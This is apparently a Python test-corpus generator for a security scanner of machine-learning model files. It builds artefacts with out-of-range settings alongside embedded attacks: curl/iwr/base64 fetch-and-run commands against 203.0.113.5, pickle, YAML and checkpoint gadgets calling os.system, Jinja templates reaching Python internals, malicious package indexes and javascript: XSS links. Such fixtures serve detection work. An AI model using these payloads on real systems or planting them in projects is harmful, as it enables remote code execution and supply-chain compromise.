"""The tenth corpus: settings at the edge of what a library accepts, records inside checkpoints.

Written before its author had read the readers, from the names of the nine corpora before it and
from what the promises say (`docs/security-intake.md`).
"""

# ruff: noqa: E501  tables of cases, one a line

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

import torch
from carriers import COMMAND, reduced, stack_global, text
from corpus import Corpus
from eighth_benign import LLAMA, LORA
from eighth_files import attributes, fitted, node_of, put, skops_of
from eighth_folders import TOKENIZER
from fifth_folders import js, safetensors
from fifth_pickles import state, torch_bytes
from fourth import EVIL, OS
from fourth_folders import good
from safetensors.torch import save
from sklearn.linear_model import LogisticRegression
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from auditor.intake.words import words

TENTH = Corpus()
RUNS, ODD, ANY = (1, 4), (1, 3, 4), (0, 3, 4)
OPEN = words("safetensors10_gadget_in_pieces program10_rows_in_a_window")
"""A pool of a program is one by one to the reader of its graph. Notes are a table without an order: pieces of a file in them are as long as honest words."""


def beside(name: str, path: str, data: Any, codes: tuple[int, ...] = ODD) -> None:
    """Honest weights and one more file."""
    raw = data if isinstance(data, bytes) else data.encode() if isinstance(data, str) else js(data)
    TENTH.folder(f"{name}10", {"model.safetensors": good, path: raw}, codes)


SETTINGS: dict[str, tuple[str, dict[str, Any]]] = {
    "logits_turned_by_cohere": ("config.json", {**LLAMA, "model_type": "cohere", "logit_scale": -0.0625}),
    "experts_turned": ("config.json", {**LLAMA, "routed_scaling_factor": -2.5}),
    "experts_nobody_asks": ("config.json", {**LLAMA, "num_local_experts": 8, "num_experts_per_tok": 0}),
    "attention_divided_by_nothing": ("config.json", {**LLAMA, "query_pre_attn_scalar": 0}),
    "embedding_turned_by_minicpm": ("config.json", {**LLAMA, "scale_emb": -12, "scale_depth": 1.4}),
    "depth_scaled_to_a_billion": ("config.json", {**LLAMA, "scale_emb": 12, "scale_depth": 1e9}),
    "turns_of_a_base_of_nothing": ("config.json", {**LLAMA, "rope_theta": 0.0}),
    "turns_stretched_by_nothing": ("config.json", {**LLAMA, "rope_scaling": {"rope_type": "linear", "factor": 0.0}}),
    "window_of_one_word": ("config.json", {**LLAMA, "sliding_window": 1, "use_sliding_window": True}),
    "clip_of_a_scale_turned": ("config.json", {"model_type": "clip", "logit_scale_init_value": -100.0}),
    "labels_told_otherwise_in_a_part": ("config.json", {**LLAMA, "id2label": {"0": "SAFE", "1": "UNSAFE"}, "text_config": {"model_type": "llama", "id2label": {"0": "UNSAFE", "1": "SAFE"}}}),
    "labels_of_fewer_numbers": ("config.json", {**LLAMA, "num_labels": 5, "id2label": {"0": "SAFE", "9": "UNSAFE"}, "label2id": {"SAFE": 0, "UNSAFE": 9}}),
    "adapter_turned": ("adapter_config.json", {**LORA, "lora_alpha": -16}),
    "adapter_scaled_to_a_billion": ("adapter_config.json", {**LORA, "lora_alpha": 1e9}),
    "adapter_that_drops_all": ("adapter_config.json", {**LORA, "lora_dropout": 2.0}),
    "adapter_of_a_pattern_turned": ("adapter_config.json", {**LORA, "alpha_pattern": {"q_proj": -64}}),
    "guided_away_from_the_question": ("generation_config.json", {"do_sample": True, "guidance_scale": -10.0}),
    "repeats_rewarded": ("generation_config.json", {"repetition_penalty": 1e-9}),
    "beams_of_a_billion": ("generation_config.json", {"num_beams": 10**9, "num_return_sequences": 10**9}),
    "answers_of_no_words": ("generation_config.json", {"max_new_tokens": 0}),
    "answers_that_stop_at_a_common_word": ("generation_config.json", {"stop_strings": ["the", " "]}),
    "chances_above_one": ("generation_config.json", {"do_sample": True, "top_p": 7.5, "typical_p": -3.0}),
    "texts_cut_to_one_word": ("tokenizer.json", {**TOKENIZER, "truncation": {"direction": "Right", "max_length": 1, "strategy": "LongestFirst", "stride": 0}}),
    "texts_filled_to_a_billion": ("tokenizer.json", {**TOKENIZER, "padding": {"strategy": {"Fixed": 10**9}, "direction": "Right", "pad_to_multiple_of": None, "pad_id": 0, "pad_type_id": 0, "pad_token": "[PAD]"}}),
    "texts_of_at_most_two_words": ("tokenizer_config.json", {"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 2}),
    "texts_of_a_length_below_zero": ("tokenizer_config.json", {"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": -512}),
    "pictures_of_one_pixel": ("preprocessor_config.json", {"image_processor_type": "ViTImageProcessor", "do_resize": True, "size": {"height": 1, "width": 1}}),
    "pictures_of_a_million_lines": ("preprocessor_config.json", {"image_processor_type": "ViTImageProcessor", "do_resize": True, "size": {"height": 10**6, "width": 10**6}}),
    "pictures_cropped_to_nothing": ("preprocessor_config.json", {"image_processor_type": "CLIPImageProcessor", "do_center_crop": True, "crop_size": {"height": 0, "width": 224}}),
    "pictures_far_from_their_mean": ("preprocessor_config.json", {"image_processor_type": "ViTImageProcessor", "do_normalize": True, "image_mean": [1e9, 0.5, 0.5], "image_std": [0.5, 0.5, 0.5]}),
    "sounds_filled_with_no_number": ("preprocessor_config.json", {"feature_extractor_type": "WhisperFeatureExtractor", "padding_value": float("nan"), "sampling_rate": 16000}),
    "sounds_of_no_rate": ("preprocessor_config.json", {"feature_extractor_type": "WhisperFeatureExtractor", "sampling_rate": 0, "n_fft": 0, "hop_length": 0}),
    "network_by_a_path_of_python": ("plans.json", {"plans_name": "nnUNetPlans", "configurations": {"2d": {"architecture": {"network_class_name": "os.system", "arch_kwargs": {"conv_op": "evil.module.Conv"}, "_kw_requires_import": ["conv_op"]}}}}),
    "task_of_a_stranger": ("task.json", {"module": "evil.models", "class_name": "Classifier", "config": {}, "registered_name": "evil>Classifier"}),
    "run_of_a_command": ("wandb-metadata.json", {"program": "train.py", "args": ["--run", "$(curl http://203.0.113.5/x | sh)"], "codePath": "../../etc/cron.d/x"}),
}  # fmt: skip
for _name, (_path, _settings) in SETTINGS.items():
    beside(_name, _path, _settings)

TEXTS: dict[str, tuple[str, str]] = {
    "words_twice_in_a_list": ("vocab.txt", "[PAD]\n[UNK]\nsafe\nunsafe\nsafe\n"),
    "weights_rewritten_at_check_out": (".gitattributes", "*.safetensors text eol=crlf ident working-tree-encoding=UTF-16LE\n"),
    "drawings_by_a_module": ("matplotlibrc", "backend: module://evil\naxes.grid: True\n"),
    "index_of_packages": ("pip.conf", "[global]\nindex-url = http://203.0.113.5/simple\ntrusted-host = 203.0.113.5\n"),
    "stage_of_data": ("model.safetensors.dvc", "cmd: curl http://203.0.113.5/x | sh\nouts:\n- md5: d41d8cd98f00b204e9800998ecf8427e\n  path: model.safetensors\n"),
    "hooks_of_a_site": ("mkdocs.yml", "site_name: model\nhooks:\n- evil.py\nplugins:\n- evil\n"),
    "lock_of_another_host": ("uv.lock", 'version = 1\n[[package]]\nname = "torch"\nversion = "2.4.0"\nsource = { url = "http://203.0.113.5/torch.whl" }\n'),
    "requirement_over_two_lines": ("requirements.txt", "torch \\\n  @ \\\n  https://203.0.113.5/torch.whl\nnumpy\n"),
    "environment_of_an_address": ("python_env.yaml", "python: 3.10.12\nbuild_dependencies:\n- git+https://203.0.113.5/x.git\ndependencies:\n- -r requirements.txt\n"),
    "licence_under_a_script": ("README.md", "---\nlicense: other\nlicense_name: custom\nlicense_link: javascript:alert(1)\n---\n# A model\n"),
    "gate_with_a_page": ("README.md", "---\nlicense: mit\nextra_gated_prompt: \"<img src=x onerror=alert(1)>\"\n---\n# A model\n"),
    "result_of_a_script": ("README.md", "---\nmodel-index:\n- name: x\n  results:\n  - source:\n      name: y\n      url: javascript:alert(1)\n---\n# A model\n"),
    "shell_by_a_substitution": ("README.md", "# A model\n\n```bash\nbash <(curl -fsSL https://203.0.113.5/setup)\n```\n"),
    "shell_by_eval": ("README.md", "# A model\n\n```sh\neval \"$(curl -fsSL https://203.0.113.5/setup)\"\n```\n"),
    "shell_of_windows": ("README.md", "# A model\n\n```powershell\niwr https://203.0.113.5/a.ps1 -UseBasicParsing | iex\n```\n"),
    "python_fetched_and_run": ("README.md", "# A model\n\n```python\nimport requests\nexec(requests.get('https://203.0.113.5/a').text)\n```\n"),
    "shell_of_letters_of_64": ("README.md", "# A model\n\n```bash\necho Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveA== | base64 -d | sh\n```\n"),
    "picture_of_a_formula": ("README.md", "# A model\n\n$$\\href{javascript:alert(1)}{x}$$ $\\includegraphics{http://203.0.113.5/x.png}$\n"),
    "template_by_the_largest": ("chat_template.jinja", "{% for m in messages %}{{ m.role }}{% if [m.content, 'x']|max == 'x' %}evil{% endif %}{{ m.content }}{% endfor %}"),
    "template_by_the_one_before": ("chat_template.jinja", "{% for m in messages %}{% if loop.previtem is defined and loop.previtem.content == m.content %}evil{% endif %}{{ m.role + m.content }}{% endfor %}"),
    "template_by_a_count_of_words": ("chat_template.jinja", "{% for m in messages %}{{ m.role + m.content }}{% if m.content|wordcount > 40 %}evil{% endif %}{% endfor %}"),
    "template_by_pairs": ("chat_template.jinja", "{% for m in messages %}{{ m.role + m.content }}{% for k, v in m.items() if v == 'x' %}evil{% endfor %}{% endfor %}"),
    "template_by_a_truth_as_number": ("chat_template.jinja", "{% for m in messages %}{{ ['', 'evil'][(m.content == 'x')|int] + m.role + m.content }}{% endfor %}"),
    "template_by_and": ("chat_template.jinja", "{% for m in messages %}{{ m.role + m.content }}{{ m.content == 'x' and 'evil' or '' }}{% endfor %}"),
}  # fmt: skip
for _name, (_path, _text) in TEXTS.items():
    beside(_name, _path, _text)


def checkpoint(name: str, codes: tuple[int, ...] = ODD, **more: Any) -> None:
    """A checkpoint whose weights are honest and whose notes are read by the library that wrote it."""
    TENTH.file(f"checkpoint10_{name}", lambda: torch_bytes({"state_dict": state(), **more}), codes, "m.ckpt")  # fmt: skip


checkpoint("built_by_a_name", hyper_parameters={"_instantiator": "os.system", "_class_path": "evil.Model"})  # fmt: skip
checkpoint("target_of_hydra", hyper_parameters={"net": {"_target_": "os.system", "_args_": [COMMAND]}})  # fmt: skip
checkpoint("settings_as_a_text", cfg="model:\n  _target_: os.system\n  _args_: [id]\n")
checkpoint("tag_as_a_text", cfg=f"!!python/object/apply:os.system ['{COMMAND}']\n")
checkpoint("map_of_a_class", config={"auto_map": {"AutoModel": "modeling.Evil"}})
checkpoint("template_of_insides", tokenizer={"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"})  # fmt: skip
checkpoint("template_that_is_steered", tokenizer={"chat_template": "{% for m in messages %}{% if 'x' in m.content %}evil{% endif %}{{ m.content }}{% endfor %}"})  # fmt: skip
checkpoint("address_of_a_base", args={"resume": "\\\\evil.example\\share\\w.pt", "init_from": "http://203.0.113.5/w.bin"}, codes=ANY)  # fmt: skip
checkpoint("record_of_jsonpickle", extra={"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]})  # fmt: skip


class _Persistent:
    def __reduce__(self) -> Any:
        return _rebuilt, ({"type": "class", "module_src": EVIL, "class_name": "G", "state": {}},)


def _rebuilt(meta: Any) -> Any:
    raise AssertionError(meta)


_rebuilt.__module__, _rebuilt.__qualname__ = (
    "torch_utils.persistence",
    "_reconstruct_persistent_obj",
)
TENTH.file("pickle10_source_of_a_generator", lambda: b"\x80\x04" + stack_global("torch_utils.persistence", "_reconstruct_persistent_obj") + b"}(" + text("module_src") + text(EVIL) + text("class_name") + text("G") + b"u\x85R.", RUNS, "m.pkl")  # fmt: skip


def _letters(value: bytes = EVIL.encode()) -> bytes:
    """Each tensor has no numbers; its shape spells a part of a text."""
    parts = [value[k : k + 4] for k in range(0, len(value), 4)]
    shaped = {f"layer.{n}.weight": {"dtype": "F32", "shape": [0, *part], "data_offsets": [0, 0]} for n, part in enumerate(parts)}  # fmt: skip
    return safetensors(json.dumps({**shaped, "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}), bytes(16))  # fmt: skip


TENTH.file("safetensors10_letters_in_shapes", _letters, ODD, "m.safetensors")
TENTH.file("safetensors10_template_of_insides", lambda: save({"w": torch.zeros(4)}, {"format": "pt", "chat_template": "{{ ''.__class__.__mro__ }}"}), ODD, "m.safetensors")  # fmt: skip
TENTH.file("safetensors10_gadget_in_pieces", lambda: save({"w": torch.zeros(4)}, {"format": "pt", **{f"k{n}": base64.b64encode(OS)[n * 8 : n * 8 + 8].decode() for n in range(12)}}), ODD, "m.safetensors")  # fmt: skip


def _spelled(where: str) -> bytes:
    """An honest torch file whose members' dates or attributes are a text."""
    honest, out, value = torch_bytes(OrderedDict((f"w{n}", torch.zeros(3)) for n in range(9))), io.BytesIO(), EVIL.encode().ljust(400)  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(honest)) as old, zipfile.ZipFile(out, "w") as new:
        for n, info in enumerate(old.infolist()):
            made = zipfile.ZipInfo(info.filename)
            made.external_attr = (
                struct.unpack("<I", value[4 * n : 4 * n + 4])[0] if where == "attributes" else 0
            )
            new.writestr(made, old.read(info))
    data = bytearray(out.getvalue())
    if where == "dates":
        with zipfile.ZipFile(out) as new:
            at = struct.unpack("<I", data[-6:-2])[0]
            for n, info in enumerate(new.infolist()):
                piece = value[4 * n : 4 * n + 4]
                data[info.header_offset + 10 : info.header_offset + 14] = piece
                data[at + 12 : at + 16] = piece
                at += 46 + len(info.filename)
    return bytes(data)


TENTH.file("zip10_letters_in_dates", lambda: _spelled("dates"), ODD, "m.pt")
TENTH.file("zip10_letters_in_attributes", lambda: _spelled("attributes"), ODD, "m.pt")


def _setgid(root: Path) -> None:
    (root / "model.safetensors").write_bytes(good())
    (root / "model.safetensors").chmod(0o2755)


def _shards(root: Path) -> None:
    """One tensor lies in two shards with other numbers; readers differ in which they take."""
    (root / "model-00001-of-00002.safetensors").write_bytes(save({"a": torch.ones(4), "b": torch.ones(4)}))  # fmt: skip
    (root / "model-00002-of-00002.safetensors").write_bytes(save({"a": -torch.ones(4), "c": torch.ones(4)}))  # fmt: skip
    (root / "model.safetensors.index.json").write_bytes(js({"metadata": {"total_size": 64}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00001-of-00002.safetensors", "c": "model-00002-of-00002.safetensors"}}))  # fmt: skip


TENTH.place("weights_that_run_as_their_group10", ODD)(_setgid)
TENTH.place("tensor_of_two_shards10", ODD)(_shards)

MODEL = lambda: make_pipeline(StandardScaler(), LogisticRegression())  # noqa: E731
for _name, _change in {
    "page_of_a_script": lambda m: put(_doc_link_template="javascript:alert(1)", _doc_link_module="x")(m[-1]),
    "page_of_its_own": lambda m: put(_repr_html_="<script>alert(1)</script>")(m[-1]),
    "output_of_a_stranger": lambda m: put(_sklearn_output_config={"transform": "evil.module"})(m[0]),
    "routed_by_a_stranger": lambda m: put(_metadata_request={"fit": {"x": EVIL}})(m[-1]),
    "steps_of_one_name": lambda m: m.steps.__setitem__(1, (m.steps[0][0], m.steps[1][1])),
}.items():  # fmt: skip
    TENTH.file(f"estimator10_{_name}", fitted(MODEL, _change), ODD, "m.joblib")
TENTH.file("estimator10_network_of_a_scale_turned", fitted(lambda: MLPClassifier((5,), max_iter=5), lambda m: put(n_outputs_=m.n_outputs_ + 1)(m)), ODD, "m.joblib")  # fmt: skip
for _name, _told in {
    "type_of_a_key": lambda d: attributes(d).update(hook=node_of("DictNode", "builtins", "dict", key_types=node_of("ListNode", "builtins", "list", content=[node_of("TypeNode", "os", "system")]), content={})),
    "object_of_eval": lambda d: attributes(d).update(hook=node_of("ObjectNode", "builtins", "eval", content=None)),
    "known_to_nobody": lambda d: attributes(d).update(hook=node_of("CachedNode", "sklearn.linear_model", "LogisticRegression")),
    "text_that_is_a_gadget": lambda d: attributes(d).update(solver={**node_of("JsonNode", "builtins", "str"), "content": json.dumps(EVIL), "is_json": True}),
}.items():  # fmt: skip
    TENTH.file(f"skops10_{_name}", skops_of(LogisticRegression, _told), ODD, "m.skops")
TENTH.file("pickle10_note_of_a_gadget_in_a_key", lambda: b"\x80\x04}" + text(base64.b64encode(reduced("os", "system")).decode()[:200]) + b"K\x01s.", ODD, "m.pkl")  # fmt: skip
